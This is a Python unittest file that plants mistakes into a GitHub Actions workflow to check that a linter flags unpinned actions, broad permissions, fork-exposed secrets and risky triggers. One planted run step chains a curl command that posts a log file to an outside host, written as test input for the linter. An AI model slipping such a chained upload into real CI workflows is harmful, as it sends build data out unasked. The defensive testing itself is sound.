"""The workflows keep the rules of rules.py, and each rule finds what is planted."""

import unittest

import yaml

import rules

FILES = sorted((rules.ROOT / ".github").glob("workflows/*.y*ml")) + sorted((rules.ROOT / ".github").glob("actions/*/action.yml"))
HASH = "0123456789abcdef0123456789abcdef01234567"

# Without a mistake. Each test plants one.
GOOD = f"""\
on: push
permissions: {{}}
concurrency: deploy
defaults: {{run: {{shell: bash}}}}
jobs:
  job:
    runs-on: ubuntu-24.04
    container: debian:12@sha256:{"0" * 64}
    timeout-minutes: 10
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@{HASH} # v7.0.0
        with:
          persist-credentials: false
      - run: ./dev test --long
"""


def problems(text):
    return rules.everything("planted.yml", text, yaml.safe_load(text))


class Workflows(unittest.TestCase):
    def test_all_are_there(self):
        self.assertEqual([file.stem for file in FILES if file.parent.name == "workflows"],
                         ["ci", "deploy", "images", "nightly", "release"])

    def test_they_keep_the_rules(self):
        for file in FILES:
            with self.subTest(file.name):
                text = file.read_text()
                self.assertEqual(rules.everything(file.name, text, yaml.safe_load(text)), [])

    def test_an_action_has_one_version(self):
        self.assertEqual(rules.versions(file.read_text() for file in FILES), [])


class Planted(unittest.TestCase):
    def planted(self, old, new, said):
        self.assertIn(old, GOOD)
        found = problems(GOOD.replace(old, new))
        self.assertTrue(any(said in problem for problem in found), found)

    def test_nothing(self):
        self.assertEqual(problems(GOOD), [])

    def test_a_command_that_is_none_of_dev(self):
        self.planted("./dev test --long", "make test", "not a command of ./dev")
        self.planted("./dev test --long", "./dev test | tee log", "not a command of ./dev")
        self.planted("./dev test --long", "./dev test && curl -d @log http://example.org", "not a command of ./dev")
        self.planted("run: ./dev test --long", "run: |\n          ./dev test\n          ./dev check", "not a command of ./dev")

    def test_a_command_that_dev_does_not_have(self):
        self.planted("./dev test --long", "./dev tset", "no such command")
        self.planted("./dev test --long", "./dev test --lnog", "./dev knows no --lnog")
        self.planted("./dev test --long", "./dev test --l", "./dev knows no --l")

    def test_an_expression_in_a_command(self):
        self.planted("./dev test --long", "./dev test ${{ github.head_ref }}", "can be anything")

    def test_output_may_go_to_later_steps(self):
        self.assertEqual(problems(GOOD.replace("./dev test --long", './dev test >> "$GITHUB_OUTPUT"')), [])

    def test_an_action_that_can_change(self):
        self.planted(f"@{HASH} # v7.0.0", "@v7", "not pinned by the hash")
        self.planted(f"@{HASH} # v7.0.0", f"@{HASH[:12]} # v7.0.0", "not pinned by the hash")
        self.planted(f"@{HASH} # v7.0.0", f"@{HASH}", "version does not stand behind it")
        self.planted(f"@{HASH} # v7.0.0", f"@{HASH} # v7", "version does not stand behind it")
        self.planted(f"actions/checkout@{HASH} # v7.0.0", "./.github/actions/gone", "there is no ./.github/actions/gone")

    def test_two_versions_of_an_action(self):
        self.assertTrue(rules.versions([GOOD, GOOD.replace("v7.0.0", "v7.0.1")]))
        self.assertTrue(rules.versions([GOOD, GOOD.replace(HASH, HASH[::-1])]))

    def test_an_image_that_can_change(self):
        self.planted(f"debian:12@sha256:{'0' * 64}", "debian:12", "not pinned by its digest")

    def test_rights_for_all_jobs(self):
        self.planted("permissions: {}", "permissions: read-all", "takes rights for all")
        self.planted("permissions: {}\n", "", "takes rights for all")
        self.planted("    permissions:\n      contents: read\n", "", "no permissions of its own")

    def test_a_right_that_nothing_needs(self):
        self.planted("contents: read", "contents: write", "nothing in it needs contents")
        self.planted("contents: read", "id-token: write", "nothing in it needs id-token")
        self.planted("contents: read", "packages: write", "nothing in it needs packages")

    def test_a_right_that_is_missing(self):
        self.planted("./dev test --long", "./dev release", "without contents: write it fails")
        self.planted("./dev test --long", './dev sign "$DIGEST"', "without id-token: write it fails")

    def test_a_trigger_for_strangers(self):
        self.planted("on: push", "on: pull_request_target", "what strangers write")
        self.planted("on: push", "on: {workflow_run: {workflows: [ci]}}", "what strangers write")

    def test_a_fork_that_gets_a_secret(self):
        with_secret = GOOD.replace("      - run:", "      - env: {TOKEN: '${{ secrets.TOKEN }}'}\n        run:")
        self.assertIn("job: a secret that no environment guards", problems(with_secret))
        from_forks = with_secret.replace("on: push", "on: [push, pull_request]")
        self.assertIn("a pull request may come from a fork, and this workflow has secrets", problems(from_forks))
        guarded = GOOD.replace("on: push", "on: pull_request").replace("    timeout", "    environment: production\n    timeout")
        self.assertIn("job: a pull request may come from a fork, and this job has an environment's secrets", problems(guarded))
        writes = GOOD.replace("on: push", "on: pull_request").replace("contents: read", "contents: write")
        self.assertIn("job: a pull request may come from a fork, and this job may write", problems(writes))

    def test_a_job_without_bounds(self):
        self.planted("    timeout-minutes: 10\n", "", "no timeout-minutes")
        self.planted("concurrency: deploy\n", "", "no concurrency group")
        self.planted("defaults: {run: {shell: bash}}\n", "", "the default shell")

    def test_a_checkout_that_leaves_its_token(self):
        self.planted("persist-credentials: false", "fetch-depth: 0", "persist-credentials")


if __name__ == "__main__":
    unittest.main()
